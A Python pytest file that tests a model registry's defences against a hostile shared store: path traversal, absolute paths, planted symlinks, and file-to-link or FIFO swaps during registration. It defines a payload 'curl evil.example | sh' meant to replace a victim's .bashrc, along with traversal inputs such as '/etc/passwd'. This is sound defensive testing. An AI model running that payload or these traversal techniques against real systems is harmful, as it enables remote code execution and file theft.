"""The model registry against a hostile store: a version folder or ``lineage.json`` written
by someone else (another user of a shared store, a copied registry) must not make
``download`` write outside DEST or read outside the version, a link already inside DEST is
never followed, and a file of a run's outputs swapped for a link between the scan and the
copy of ``register`` is never copied."""

from __future__ import annotations

import hashlib
import json
import os
import stat
import threading
from pathlib import Path

import pytest
from support.made_runs import forge, made_run, writable

import jupyter_trainer as jt
from jupyter_trainer.core.errors import SpecError, StoreError

SAFE_BASHRC = "# the victim's own .bashrc\n"
PAYLOAD = b"curl evil.example | sh\n"


def entry(path: str, data: bytes) -> dict:
    return {"path": path, "size": len(data), "sha256": hashlib.sha256(data).hexdigest()}


@pytest.fixture
def victim(tmp_path) -> Path:
    """A user's home folder beside DEST, with a .bashrc an attacker wants to replace."""
    folder = tmp_path / "victim"
    folder.mkdir()
    (folder / ".bashrc").write_text(SAFE_BASHRC)
    return folder


@pytest.fixture
def model(store):
    return made_run(store, {"model.pt": b"weights"}).register_model("digits", "model.pt")


def untouched(victim: Path) -> bool:
    return (
        sorted(p.name for p in victim.iterdir()) == [".bashrc"]
        and (victim / ".bashrc").read_text() == SAFE_BASHRC
    )


def test_a_dotdot_path_in_the_lineage_writes_nothing_outside_dest(model, tmp_path):
    (model.folder.parent / "escaped.txt").write_bytes(PAYLOAD)  # what ../escaped.txt reads
    forge(model, [entry("../escaped.txt", PAYLOAD)])
    dest = tmp_path / "work" / "dest"
    with pytest.raises(
        StoreError,
        match=r"record of model digits@1 .* is damaged: file path "
        r"'\.\./escaped\.txt' is not a plain relative path",
    ):
        jt.get_model("digits@1").download(dest)
    assert not (tmp_path / "work" / "escaped.txt").exists()
    assert not dest.exists() or not any(dest.iterdir())


def test_a_linked_folder_and_dotdots_cannot_write_a_chosen_bashrc(model, tmp_path, victim):
    # deep -> a folder of the attacker's, so deep/../../victim/.bashrc reads their file, and
    # DEST/deep/../../victim/.bashrc is the victim's
    attacker = tmp_path / "attacker"
    (attacker / "a" / "b").mkdir(parents=True)
    (attacker / "victim").mkdir()
    (attacker / "victim" / ".bashrc").write_bytes(PAYLOAD)
    writable(model.folder)
    (model.folder / "deep").symlink_to(attacker / "a" / "b")
    forge(model, [entry("deep/../../victim/.bashrc", PAYLOAD)])
    with pytest.raises(StoreError, match="is damaged"):
        jt.get_model("digits").download(tmp_path / "dest")
    assert untouched(victim)


def test_an_absolute_path_in_the_lineage_is_refused(model, tmp_path, victim):
    forge(model, [entry(str(victim / ".bashrc"), PAYLOAD)])
    with pytest.raises(StoreError, match="is not a plain relative path"):
        jt.get_model("digits").download(tmp_path / "dest")
    assert untouched(victim)


@pytest.mark.parametrize("path", ["../../../../etc", "/etc/passwd", "model.pt/../..", ""])
def test_model_path_refuses_a_forged_lineage_path(model, path):
    forge(model, model.lineage["files"], path=path)
    with pytest.raises(StoreError, match="is damaged: its path"):
        jt.get_model("digits").path


def test_a_link_inside_dest_is_never_followed(store, tmp_path, victim):
    """A legitimate version (a folder cfg/ with a .bashrc); DEST already holds cfg -> the
    victim's home, planted by another user of a shared folder."""
    model = made_run(store, {"cfg/.bashrc": PAYLOAD}).register_model("cfg", "cfg")
    dest = tmp_path / "shared"
    dest.mkdir()
    (dest / "cfg").symlink_to(victim)
    with pytest.raises(StoreError, match=r"cfg is a link \(or a file\) where a folder is needed"):
        model.download(dest)
    assert untouched(victim)
    # a link where a file goes is replaced by the file, never written through
    (dest / "cfg").unlink()
    (dest / "cfg").mkdir()
    (dest / "cfg" / ".bashrc").symlink_to(victim / ".bashrc")
    assert model.download(dest) == [dest / "cfg" / ".bashrc"]
    assert not (dest / "cfg" / ".bashrc").is_symlink()
    assert (dest / "cfg" / ".bashrc").read_bytes() == PAYLOAD and untouched(victim)


def test_a_link_in_the_version_folder_is_not_read(model, tmp_path):
    secret = tmp_path / "secret.key"
    secret.write_bytes(b"the victim's private key")
    writable(model.folder)
    (model.folder / "model.pt").unlink()
    (model.folder / "model.pt").symlink_to(secret)
    forge(model, [entry("model.pt", secret.read_bytes())])  # the sha256 is the attacker's too
    with pytest.raises(StoreError, match="model.pt of model digits@1 .* is a link"):
        jt.get_model("digits").download(tmp_path / "dest")
    assert not (tmp_path / "dest" / "model.pt").exists()


def test_a_version_folder_that_is_a_link_is_not_read(model, tmp_path, home):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "model.pt").write_bytes(b"the victim's file")
    lineage = {**model.lineage, "version": 2, "files": [entry("model.pt", b"the victim's file")]}
    (elsewhere / "lineage.json").write_text(json.dumps(lineage))
    (home / "models" / "digits" / "2").symlink_to(elsewhere)
    with pytest.raises(StoreError, match="is a link"):
        jt.get_model("digits@2").download(tmp_path / "dest")
    assert not (tmp_path / "dest").exists() or not any((tmp_path / "dest").iterdir())


def test_a_damaged_copy_leaves_the_file_in_dest_alone(model, tmp_path):
    writable(model.folder)
    (model.folder / "model.pt").write_bytes(b"tampered")
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "model.pt").write_bytes(b"the copy downloaded last week")
    with pytest.raises(StoreError, match="does not match its recorded sha256"):
        model.download(dest)
    assert (dest / "model.pt").read_bytes() == b"the copy downloaded last week"
    assert [p.name for p in dest.iterdir()] == ["model.pt"]


# -- register: a file swapped for a link between the scan and the copy ---------------------


@pytest.fixture
def swap_on_open(monkeypatch):
    """``swap(path, make)``: the first time a file named like ``path`` is opened for
    reading, ``make(path)`` replaces it first: the worst moment of a race, every time."""
    real_open = os.open
    armed: dict[str, object] = {}

    def hooked(path, flags, *args, **kwargs):
        name = os.path.basename(os.fsdecode(path))
        target = armed.get(name)
        if target is not None and not flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            del armed[name]
            make, where = target
            make(where)
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(os, "open", hooked)

    def swap(path: Path, make) -> None:
        armed[path.name] = (make, path)

    yield swap
    assert not armed, "the file was never opened"


def to_link(target: Path):
    def make(path: Path) -> None:
        path.unlink()
        path.symlink_to(target)

    return make


def registered_bytes(home: Path) -> list[bytes]:
    root = home / "models"
    return [p.read_bytes() for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.mark.parametrize(
    "path, swapped", [("weights.bin", "weights.bin"), ("tok", "tok/weights.bin")]
)
def test_a_file_swapped_for_a_link_before_it_is_opened_is_not_copied(
    store, home, tmp_path, swap_on_open, path, swapped
):
    secret = tmp_path / "secret.key"
    secret.write_bytes(b"SECRET of another user")
    run = made_run(
        store, {"weights.bin": b"w" * 100, "tok/weights.bin": b"t" * 100, "tok/a.txt": b"a"}
    )
    swap_on_open(run.outputs / swapped, to_link(secret))
    with pytest.raises(
        StoreError,
        match=f"{swapped} in the run's outputs/ is a link .*changed "
        "while it was being registered; nothing was registered",
    ):
        run.register_model("m", path)
    assert not any(b"SECRET" in data for data in registered_bytes(home))
    assert jt.models() == [] and not [
        p for p in (home / "models").rglob("*") if p.name.startswith(".register-")
    ]


def test_a_file_swapped_for_a_fifo_is_refused_without_waiting(store, home, swap_on_open):
    run = made_run(store, {"weights.bin": b"w" * 100})
    fifo = run.outputs / "weights.bin"
    swap_on_open(fifo, lambda p: (p.unlink(), os.mkfifo(p)))
    done = threading.Event()

    def unblock() -> None:  # a reader stuck in open() gets EOF instead of hanging the test
        while not done.wait(0.5):
            try:
                os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                continue

    thread = threading.Thread(target=unblock, daemon=True)
    thread.start()
    try:
        with pytest.raises(
            StoreError, match="weights.bin in the run's outputs/ is not a regular file"
        ):
            run.register_model("m", "weights.bin")
    finally:
        done.set()
        thread.join()
    assert jt.models() == []


def test_a_file_that_vanishes_while_listed_is_no_raw_oserror(store, monkeypatch):
    """Registering a missing path lists what the outputs hold; a file removed between the
    scan and its stat must not turn that into a raw FileNotFoundError."""
    run = made_run(store, {"a.bin": b"a", "b.bin": b"b"})
    real_stat = os.stat
    gone = run.outputs / "a.bin"

    def hooked(path, *args, **kwargs):
        if os.fspath(path) == str(gone) and os.path.lexists(gone):
            gone.unlink()
        return real_stat(path, *args, **kwargs)

    monkeypatch.setattr(os, "stat", hooked)
    with pytest.raises(SpecError, match="'missing.pt' is not in the run's outputs/.*it has b.bin"):
        run.register_model("m", "missing.pt")


def test_register_copies_links_that_stay_inside_outputs(store):
    run = made_run(store, {"model.pt": b"weights", "tok/a.txt": b"a"})
    (run.outputs / "alias.pt").symlink_to("model.pt")
    (run.outputs / "tok" / "b.txt").symlink_to("../model.pt")
    model = run.register_model("m", "alias.pt")
    assert model.path.read_bytes() == b"weights" and not model.path.is_symlink()
    folder = run.register_model("t", "tok")
    assert [f.path for f in folder.files] == ["tok/a.txt", "tok/b.txt"]
    assert (folder.folder / "tok" / "b.txt").read_bytes() == b"weights"
    mode = stat.S_IMODE((folder.folder / "tok" / "b.txt").lstat().st_mode)
    assert mode == 0o444


@pytest.mark.parametrize("parts", [("..", "secret"), ("a/../../secret",), ("",), (".",)])
def test_open_beneath_walks_only_plain_names(tmp_path, parts):
    """Whatever a caller passes, ``openat`` never gets a part that climbs or jumps."""
    from jupyter_trainer.store.confined import Refused, open_beneath, open_folder

    (tmp_path / "secret").write_text("s")
    (tmp_path / "root" / "a").mkdir(parents=True)
    root = open_folder(tmp_path / "root")
    try:
        with pytest.raises(Refused, match="is not a plain name"):
            open_beneath(root, parts)
    finally:
        os.close(root)
